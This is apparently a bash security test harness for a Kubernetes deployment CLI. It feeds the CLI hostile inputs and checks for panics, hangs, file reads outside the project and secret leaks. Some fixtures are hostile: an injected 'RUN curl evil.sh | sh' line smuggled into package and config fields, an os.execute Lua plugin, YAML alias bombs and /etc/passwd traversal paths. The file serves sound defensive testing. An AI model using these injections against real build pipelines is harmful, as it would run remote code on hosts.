#!/usr/bin/env bash
# Hostile-input campaign (issue 9): runs the debug binary against bad and edge inputs and
# classifies every run as panic, hang, crash, outside-read, leak, wrong-success, clean error or ok.
# Exit status is non-zero when any case is not a clean error or ok.
set -u

BIN=${JUSTPUSH_BIN:-target/debug/kubectl-justpush}
BIN=$(cd "$(dirname "$BIN")" && pwd)/$(basename "$BIN")
[ -x "$BIN" ] || { echo "hostile-inputs: $BIN missing: run cargo test --no-run --test cli_render" >&2; exit 2; }

T=$(mktemp -d)
trap 'rm -rf "$T"' EXIT
CANARY="CANARY-OUTSIDE-$RANDOM$RANDOM"
SECRET="SECRET-TOKEN-$RANDOM$RANDOM"
# Cases without a project run in the empty EMPTY, so the canary scan of written files never sees
# the canary itself (it lives in T/outside).
EMPTY="$T/cwd"
mkdir -p "$T/outside" "$T/runs" "$EMPTY"
printf '%s\n' "$CANARY" >"$T/outside/canary.txt"
printf 'openapi: 3.0.0\ninfo: {title: %s, version: "1"}\npaths: {}\n' "$CANARY" >"$T/outside/spec.yaml"

N=0 P=0 H=0 C=0 R=0 L=0 W=0 E=0 K=0

# run_case ID EXPECT(error|ok|any) DIR CMD...: `any` accepts a clean error or success (the check is
# for panics, hangs, reads and leaks only); DIR is the case's working directory; files written
# under it are scanned for the canaries too.
run_case() {
  local id=$1 expect=$2 dir=$3; shift 3
  local out="$T/runs/$id.out" err="$T/runs/$id.err" rc class="" reason=""
  N=$((N + 1))
  (cd "$dir" && timeout -k 2s 20s prlimit --as=4294967296 --stack=67108864 -- "$BIN" "$@") \
    </dev/null >"$out" 2>"$err"
  rc=$?
  if [ "$rc" -eq 124 ] || [ "$rc" -eq 137 ]; then class=hang reason="timeout 20s"
  elif [ "$rc" -eq 101 ] || grep -q 'panicked at' "$err"; then class=panic reason="$(grep -m1 'panicked at' -A1 "$err" | tr '\n' ' ' | cut -c1-160)"
  elif [ "$rc" -gt 128 ]; then class=crash reason="signal $((rc - 128))"
  elif grep -rqa -- "$CANARY" "$out" "$err" "$dir" 2>/dev/null; then class=outside-read reason="canary in output/files"
  elif grep -rqa -- "$SECRET" "$out" "$err" "$dir" 2>/dev/null; then class=leak reason="secret in output/files"
  elif [ "$expect" = error ] && [ "$rc" -eq 0 ]; then class=wrong-success reason="exit 0"
  elif [ "$expect" = ok ] && [ "$rc" -ne 0 ]; then
    if [ "$rc" -eq 1 ] || [ "$rc" -eq 2 ]; then class=error-on-ok reason="exit $rc: $(head -c 140 "$err" | tr '\n' ' ')"
    else class=crash reason="exit $rc"; fi
  fi
  case $class in
    panic) P=$((P + 1)) ;; hang) H=$((H + 1)) ;; crash) C=$((C + 1)) ;;
    outside-read) R=$((R + 1)) ;; leak) L=$((L + 1)) ;; wrong-success) W=$((W + 1)) ;;
    error-on-ok) E=$((E + 1)) ;;
    "") if [ "$rc" -eq 0 ]; then K=$((K + 1)); else E=$((E + 1)); fi ;;
  esac
  if [ -n "$class" ]; then
    printf '%s\t%s\t%s\t[%s]\n' "$id" "$class" "$reason" "$*" | cut -c1-400
  fi
}

# ---------------------------------------------------------------- templates and values
CH="$T/chart"
mkdir -p "$CH/templates"
printf 'apiVersion: v2\nname: hostile\nversion: 0.1.0\n' >"$CH/Chart.yaml"
printf 's: x\n' >"$CH/values.yaml"
fns=('trunc 5' 'trunc -5' 'trunc 0' 'substr 1 3' 'substr 3 1' 'substr -1 99' 'abbrev 5' 'abbrev 3' 'wrap 3' 'wrap 0' 'repeat 3' 'repeat -1' 'repeat 99999999999' 'upper' 'title' 'initials' 'abbrevboth 2 5' 'wrapWith 2 "\n"' 'trimAll "é"' 'nospace')
strs=('éééééééééééééééééééééééééééééééééééééééé' '日本語のテキストです' '👩‍👩‍👧‍👦👩‍👩‍👧‍👦👩‍👩‍👧‍👦' 'a')
i=0
for f in "${fns[@]}"; do
  for s in "${strs[@]}"; do
    i=$((i + 1))
    d="$T/tpl$i"; mkdir -p "$d/templates"; cp "$CH/Chart.yaml" "$CH/values.yaml" "$d/"
    printf 'kind: ConfigMap\ndata:\n  v: {{ .Values.s | %s | quote }}\n' "$f" >"$d/templates/t.yaml"
    exp=ok
    # Helm itself fails these (Go panics: slice bounds out of range, negative Repeat count).
    case $f in 'repeat 99999999999'|'repeat -1'|'substr 3 1'|'substr -1 99') exp=error ;; esac
    run_case "tpl-$i" "$exp" "$d" render . --set-string "s=$s"
  done
done
E40=$(printf 'é%.0s' $(seq 40))
run_case rel-40e error "$EMPTY" render --name "$E40"
run_case rel-40e-set error "$EMPTY" render --set "fullnameOverride=$E40"
run_case rel-upper error "$EMPTY" render --name "UPPER"
run_case rel-dots error "$EMPTY" render --name "a..b"
run_case rel-long error "$EMPTY" render --name "$(printf 'a%.0s' $(seq 80))"
run_case rel-empty error "$EMPTY" render --name ""
run_case rel-slash error "$EMPTY" render --name "../../x"
run_case rel-newline error "$EMPTY" render --name $'a\nkind: Secret'
run_case rel-dash error "$EMPTY" render --name "-a"
run_case rel-nul-ish error "$EMPTY" render --name $'a\x01b'

# alias bomb
{ echo 'a: &a ["x","x","x","x","x","x","x","x","x"]'
  prev=a
  for l in b c d e f g h i j k; do echo "$l: &$l [*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev,*$prev]"; prev=$l; done
} >"$T/bomb.yaml"
run_case values-alias-bomb error "$EMPTY" render -f "$T/bomb.yaml"
run_case values-alias-bomb-deploy error "$EMPTY" deploy "$EMPTY" -f "$T/bomb.yaml" --kubeconfig "$T/kc-dead.yaml"
printf 'a: &a [*a]\n' >"$T/selfalias.yaml"
run_case values-self-alias error "$EMPTY" render -f "$T/selfalias.yaml"
printf 'a: *nope\n' >"$T/undefalias.yaml"
run_case values-undef-alias error "$EMPTY" render -f "$T/undefalias.yaml"
# 200 MB values file
python3 - "$T/big.yaml" <<'PY'
import sys
with open(sys.argv[1], "w") as f:
    line = "k%d: " + "v" * 190 + "\n"
    for i in range(1_000_000):
        f.write(line % i)
PY
run_case values-200mb error "$EMPTY" render -f "$T/big.yaml"
deep=$(printf 'a.%.0s' $(seq 20000))x=1
run_case set-deep-20000 error "$EMPTY" render --set "$deep"
run_case set-deep-list error "$EMPTY" render --set "a$(printf '[0]%.0s' $(seq 20000))=1"
run_case set-json-deep error "$EMPTY" render --set-json "a=$(printf '[%.0s' $(seq 20000))$(printf ']%.0s' $(seq 20000))"
run_case set-idx-huge error "$EMPTY" render --set "a[99999999999]=1"
run_case set-idx-big error "$EMPTY" render --set "a[2000000000]=1"
run_case set-empty-key error "$EMPTY" render --set "=1"
run_case set-no-eq error "$EMPTY" render --set "abc"
python3 -c "print('a:' + ' [' * 20000 + ']' * 20000)" >"$T/deep-flow.yaml"
run_case values-deep-flow error "$EMPTY" render -f "$T/deep-flow.yaml"
python3 -c "
for i in range(5000): print('  ' * i + 'k:')" >"$T/deep-block.yaml"
run_case values-deep-block error "$EMPTY" render -f "$T/deep-block.yaml"
printf '\xff\xfe\x00bad' >"$T/binary.yaml"
run_case values-binary error "$EMPTY" render -f "$T/binary.yaml"
run_case values-missing error "$EMPTY" render -f "$T/nope.yaml"
run_case values-dir error "$EMPTY" render -f "$T/outside"
run_case setfile-canary error "$EMPTY" render --set-file "x=$T/outside/canary.txt"

# ---------------------------------------------------------------- durations
printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://127.0.0.1:9"}}]\nusers: [{name: u, user: {token: %s}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-dead.yaml"
for cmd in deploy up; do
  for d in 99999999999999999h 18446744073709551616s 9223372036854775807s -1s 0s 1e309s 1.5.5s '' 'h' 99999999999999999999999999d 1y NaNs 5m5 ' 5s'; do
    run_case "timeout-$cmd-${d//[^a-zA-Z0-9.-]/_}" error "$EMPTY" "$cmd" "$EMPTY" --timeout "$d" --kubeconfig "$T/kc-dead.yaml"
  done
done

# ---------------------------------------------------------------- special files
truncate -s 5G "$T/sparse"
mkfifo "$T/fifo"
for f in /dev/zero /dev/urandom "$T/fifo" "$T/sparse" /dev/null; do
  n=$(basename "$f")
  run_case "values-$n" error "$EMPTY" render -f "$f"
  run_case "routes-config-$n" error "$EMPTY" routes "$T/outside/spec.yaml" --config "$f"
  run_case "routes-spec-$n" error "$EMPTY" routes "$f"
  run_case "kubeconfig-$n" error "$EMPTY" status --kubeconfig "$f"
  run_case "setfile-$n" error "$EMPTY" render --set-file "x=$f"
  p="$T/proj-dockerignore-$n"; mkdir -p "$p"; printf '{"name":"a","version":"1.0.0","scripts":{"start":"node i.js"}}' >"$p/package.json"; echo 'require("http")' >"$p/i.js"
  ln -s "$f" "$p/.dockerignore"
  run_case "dockerignore-$n" any "$p" init .
  p="$T/proj-cfg-$n"; mkdir -p "$p"; cp "$T/proj-dockerignore-$n/package.json" "$p/"; ln -s "$f" "$p/justpush.yaml"
  run_case "justpush-yaml-$n" error "$p" detect .
  p="$T/proj-pkg-$n"; mkdir -p "$p"; ln -s "$f" "$p/package.json"
  run_case "package-json-$n" error "$p" detect .
done

# ---------------------------------------------------------------- paths and symlinks
mkproj() { mkdir -p "$1"; printf '{"name":"a","version":"1.0.0","scripts":{"start":"node i.js"}}' >"$1/package.json"; echo 'require("http")' >"$1/i.js"; }
p="$T/sym-dockerignore"; mkproj "$p"; ln -s "$T/outside/canary.txt" "$p/.dockerignore"
run_case sym-dockerignore any "$p" init .
run_case sym-dockerignore-detect any "$p" detect . -v
p="$T/sym-openapi"; mkproj "$p"; ln -s "$T/outside/spec.yaml" "$p/openapi.yaml"
printf 'name: a\ncomponents:\n  a:\n    openapi:\n      file: openapi.yaml\n' >"$p/justpush.yaml"
run_case sym-openapi-file error "$p" routes .
run_case sym-openapi-detect error "$p" detect .
for bad in "$T/outside/spec.yaml" "../outside/spec.yaml" "../../../../../../../../etc/passwd" "/etc/passwd" "sub/../../outside/spec.yaml"; do
  p="$T/abs-$N"; mkproj "$p"
  printf 'name: a\ncomponents:\n  a:\n    path: .\n    openapi:\n      file: "%s"\n' "$bad" >"$p/justpush.yaml"
  run_case "cfg-openapi-path-$N" error "$p" routes .
  p="$T/abs-$N"; mkproj "$p"
  printf 'name: a\ncomponents:\n  a:\n    path: "%s"\n' "$(dirname "$bad")" >"$p/justpush.yaml"
  run_case "cfg-component-path-$N" error "$p" detect .
  p="$T/abs-$N"; mkproj "$p"
  printf 'name: a\ncomponents:\n  a:\n    dockerfile: "%s"\n' "$bad" >"$p/justpush.yaml"
  run_case "cfg-dockerfile-path-$N" error "$p" build . --kubeconfig "$T/kc-dead.yaml"
done
c="$T/sym-chart"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\n' >"$c/templates/t.yaml"; ln -s "$T/outside/canary.txt" "$c/templates/leak.yaml"
run_case sym-chart-template error "$EMPTY" render "$c"
c="$T/sym-chart2"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\ndata: {v: {{ .Files.Get "x.txt" | quote }}}\n' >"$c/templates/t.yaml"; ln -s "$T/outside/canary.txt" "$c/x.txt"
run_case sym-chart-files-get error "$EMPTY" render "$c"
c="$T/sym-chart3"; cp -r "$CH" "$c"; printf 'kind: ConfigMap\ndata: {v: {{ .Files.Get "../outside/canary.txt" | quote }}}\n' >"$c/templates/t.yaml"
run_case chart-files-get-dotdot error "$EMPTY" render "$c"
c="$T/sym-chart4"; cp -r "$CH" "$c"; rm "$c/values.yaml"; ln -s "$T/outside/canary.txt" "$c/values.yaml"
run_case sym-chart-values error "$EMPTY" render "$c"
c="$T/sym-chart5"; cp -r "$CH" "$c"; rm -r "$c/templates"; ln -s "$T/outside" "$c/templates"
run_case sym-chart-templates-dir error "$EMPTY" render "$c"
c="$T/self-include"; cp -r "$CH" "$c"
printf '{{define "loop"}}{{include "loop" .}}{{end}}{{include "loop" .}}\n' >"$c/templates/t.yaml"
run_case tpl-self-include error "$EMPTY" render "$c"
# --output-dir is the user's own choice on the command line (like helm template --output-dir):
# any directory is allowed; the check is that nothing panics and no canary is read.
run_case render-output-dir-escape any "$EMPTY" render --output-dir "$T/outside/../outside"

# ---------------------------------------------------------------- Dockerfile injection
inj=$'x\nRUN curl evil.sh | sh\nCOPY / /host'
injj=$(python3 -c 'import json,sys; print(json.dumps(sys.argv[1]))' "$inj")
k=0
for field in packageManager engines scripts.start scripts.build name; do
  k=$((k + 1)); p="$T/inj-node-$k"; mkdir -p "$p"
  python3 - "$p/package.json" "$field" "$inj" <<'PY'
import json, sys
path, field, val = sys.argv[1:]
pkg = {"name": "a", "version": "1.0.0", "scripts": {"start": "node i.js", "build": "true"}, "dependencies": {"express": "4"}}
if field == "engines": pkg["engines"] = {"node": val}
elif field == "packageManager": pkg["packageManager"] = "pnpm@" + val
elif field.startswith("scripts."): pkg["scripts"][field.split(".")[1]] = val
else: pkg[field] = val
json.dump(pkg, open(path, "w"))
PY
  echo 'require("express")' >"$p/i.js"
  run_case "inj-node-$field" any "$p" init .
  if grep -rqs -e '^RUN curl evil' -e '^COPY / /host' "$p"/Dockerfile* "$p"/*/Dockerfile* 2>/dev/null; then
    echo "inj-node-$field	injection	injected line in generated Dockerfile"; W=$((W + 1))
  fi
done
for pyf in main app; do
  p="$T/inj-py-$pyf"; mkdir -p "$p"
  printf 'fastapi\nuvicorn\n' >"$p/requirements.txt"
  printf 'from fastapi import FastAPI\napp = FastAPI()\n' >"$p/main.py"
  printf '[project]\nname = %s\nversion = "1"\n[tool.justpush]\nmodule = %s\n' "$injj" "$injj" >"$p/pyproject.toml"
  run_case "inj-py-$pyf" any "$p" init .
  if grep -rqs -e '^RUN curl evil' -e '^COPY / /host' "$p"/Dockerfile* 2>/dev/null; then
    echo "inj-py-$pyf	injection	injected line in generated Dockerfile"; W=$((W + 1))
  fi
done
for key in port env build_args; do
  p="$T/inj-cfg-$key"; mkproj "$p"
  case $key in
    port) printf 'name: a\ncomponents:\n  a:\n    port: %s\n' "$injj" >"$p/justpush.yaml" ;;
    env) printf 'name: a\ncomponents:\n  a:\n    env:\n      %s: v\n' "$injj" >"$p/justpush.yaml" ;;
    build_args) printf 'name: a\ncomponents:\n  a:\n    build_args:\n      %s: v\n' "$injj" >"$p/justpush.yaml" ;;
  esac
  run_case "inj-cfg-$key" any "$p" init . --force
  if grep -rqs -e '^RUN curl evil' -e '^COPY / /host' "$p"/Dockerfile* 2>/dev/null; then
    echo "inj-cfg-$key	injection	injected line in generated Dockerfile"; W=$((W + 1))
  fi
done
p="$T/inj-buildarg"; mkproj "$p"
run_case inj-build-arg error "$p" build . --build-arg "$inj=1" --kubeconfig "$T/kc-dead.yaml"
run_case inj-build-arg-secret error "$p" build . --build-arg "TOKEN=$SECRET" --kubeconfig "$T/kc-dead.yaml"
run_case inj-base-image error "$p" build . --base-image "node=$inj" --kubeconfig "$T/kc-dead.yaml"

# ---------------------------------------------------------------- Kong specs
spec() { printf '%s\n' "$2" >"$T/$1.yaml"; }
spec prefn 'openapi: 3.0.0
info: {title: t, version: "1"}
paths:
  /a:
    get:
      x-kong-plugin-pre-function: {config: {access: ["os.execute(\"id\")"]}}
      responses: {"200": {description: ok}}'
run_case kong-pre-function error "$EMPTY" routes "$T/prefn.yaml"
run_case kong-pre-function-render error "$EMPTY" render --openapi "$T/prefn.yaml"
spec oauth 'openapi: 3.0.0
info: {title: t, version: "1"}
components: {securitySchemes: {o: {type: oauth2, flows: {clientCredentials: {tokenUrl: "https://x/t", scopes: {}}}}}}
paths:
  /secret:
    get:
      security: [{o: []}]
      responses: {"200": {description: ok}}'
N=$((N + 1))
out=$(cd "$EMPTY" && timeout 20s "$BIN" routes "$T/oauth.yaml" -o json 2>&1); rc=$?
if [ "$rc" -eq 0 ] && python3 -c 'import json,sys; d=json.loads(sys.argv[1]); s=json.dumps(d).lower(); sys.exit(0 if "public" in s and "/secret" in s and "\"public\": true" in s else 1)' "$out" 2>/dev/null; then
  echo "kong-oauth2-only	wrong-success	oauth2-only operation became a public route"; W=$((W + 1))
elif [ "$rc" -eq 0 ]; then K=$((K + 1)); else E=$((E + 1)); fi
python3 -c "
print('openapi: 3.0.0\ninfo: {title: t, version: \"1\"}\npaths:')
for i in range(60000): print(f'  /p{i}:\n    get: {{responses: {{\"200\": {{description: ok}}}}}}')" >"$T/huge.yaml"
# 60,000 paths is a large but legitimate spec (under the size limit): it must finish, not fail.
run_case kong-huge-spec any "$EMPTY" routes "$T/huge.yaml"
python3 -c "
print('openapi: 3.0.0\ninfo: {title: t, version: \"1\"}\npaths: {}\ncomponents: {schemas: {a: ' + '{properties: {x: ' * 5000 + '{}' + '}}' * 5000 + '}}')" >"$T/deepspec.yaml"
run_case kong-deep-spec error "$EMPTY" routes "$T/deepspec.yaml"
python3 -c "print('{\"openapi\":\"3.0.0\",\"x\":' + '[' * 100000 + ']' * 100000 + '}')" >"$T/deepspec.json"
run_case kong-deep-json error "$EMPTY" routes "$T/deepspec.json"
# The $ref is literal YAML, not a shell expansion.
# shellcheck disable=SC2016
spec refloop 'openapi: 3.0.0
info: {title: t, version: "1"}
components: {schemas: {a: {$ref: "#/components/schemas/b"}, b: {$ref: "#/components/schemas/a"}}}
paths:
  /a:
    get:
      responses: {"200": {description: ok, content: {application/json: {schema: {$ref: "#/components/schemas/a"}}}}}'
run_case kong-ref-loop error "$EMPTY" routes "$T/refloop.yaml"
spec extref "openapi: 3.0.0
info: {title: t, version: \"1\"}
paths:
  /a:
    \$ref: \"$T/outside/spec.yaml\""
run_case kong-external-ref error "$EMPTY" routes "$T/extref.yaml"
spec badpath 'openapi: 3.0.0
info: {title: t, version: "1"}
paths:
  "/a/{x}/../../admin":
    get: {responses: {"200": {description: ok}}}
  "a b":
    get: {responses: {"200": {description: ok}}}'
run_case kong-bad-paths error "$EMPTY" routes "$T/badpath.yaml"
cp "$T/bomb.yaml" "$T/specbomb.yaml"; printf 'openapi: 3.0.0\ninfo: {title: t, version: "1"}\npaths: {}\n' >>"$T/specbomb.yaml"
run_case kong-alias-bomb error "$EMPTY" routes "$T/specbomb.yaml"
run_case routes-bad-name error "$EMPTY" routes "$T/oauth.yaml" --name "$E40"
run_case render-openapi-bad-name error "$EMPTY" render --openapi "$T/oauth.yaml" --name "Bad_Name"
run_case routes-url-file error "$EMPTY" routes --url "file://$T/outside/spec.yaml"
run_case routes-url-dead error "$EMPTY" routes --url "http://127.0.0.1:9/openapi.json"

# ---------------------------------------------------------------- kubeconfig and secrets
printf 'apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: %s\n    client-key-data: %s\n  : [broken\nclusters: {{{\n' "$SECRET" "$(printf '%s' "$SECRET" | base64)" >"$T/kc-bad.yaml"
for cmd in status history doctor credentials logs delete; do
  run_case "kubeconfig-syntax-$cmd" error "$EMPTY" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a
  run_case "kubeconfig-syntax-$cmd-vvv" error "$EMPTY" "$cmd" --kubeconfig "$T/kc-bad.yaml" --name a -vvv
  run_case "kubeconfig-dead-$cmd" error "$EMPTY" "$cmd" --kubeconfig "$T/kc-dead.yaml" --name a -vvv
done
printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://127.0.0.1:9"}}]\nusers: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/echo, args: [%s]}}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-exec.yaml"
run_case kubeconfig-exec-output error "$EMPTY" status --kubeconfig "$T/kc-exec.yaml" --name a -vvv
printf 'apiVersion: v1\nkind: Config\nclusters: [{name: c, cluster: {server: "https://u:%s@127.0.0.1:9"}}]\nusers: [{name: u, user: {}}]\ncontexts: [{name: x, context: {cluster: c, user: u}}]\ncurrent-context: x\n' "$SECRET" >"$T/kc-urlpw.yaml"
run_case kubeconfig-url-password error "$EMPTY" status --kubeconfig "$T/kc-urlpw.yaml" --name a -vvv
p="$T/secret-values"; mkdir -p "$p"; printf 'env:\n  API_TOKEN: %s\nsecrets:\n  API_TOKEN: %s\n' "$SECRET" "$SECRET" >"$p/v.yaml"
N=$((N + 1))
out=$(cd "$EMPTY" && timeout 20s "$BIN" render --set-string "secrets.DB_PASSWORD=$SECRET" 2>&1); rc=$?
if printf '%s' "$out" | python3 -c '
import sys, yaml
sec = sys.argv[1]
for d in yaml.safe_load_all(sys.stdin):
    if isinstance(d, dict) and d.get("kind") == "ConfigMap" and sec in str(d): sys.exit(0)
sys.exit(1)' "$SECRET" 2>/dev/null; then
  echo "secret-in-configmap	leak	--set-string secrets.* value appears in a ConfigMap"; L=$((L + 1))
else E=$((E + 1)); fi
run_case redeploy-secret-arg error "$EMPTY" redeploy --name a --kubeconfig "$T/kc-dead.yaml" --env "TOKEN=$SECRET"

# ---------------------------------------------------------------- summary
echo "hostile-inputs: $N cases: $P panics, $H hangs, $C crashes, $R outside-reads, $L leaks, $W wrong-successes, $E clean errors, $K ok"
[ $((P + H + C + R + L + W)) -eq 0 ]
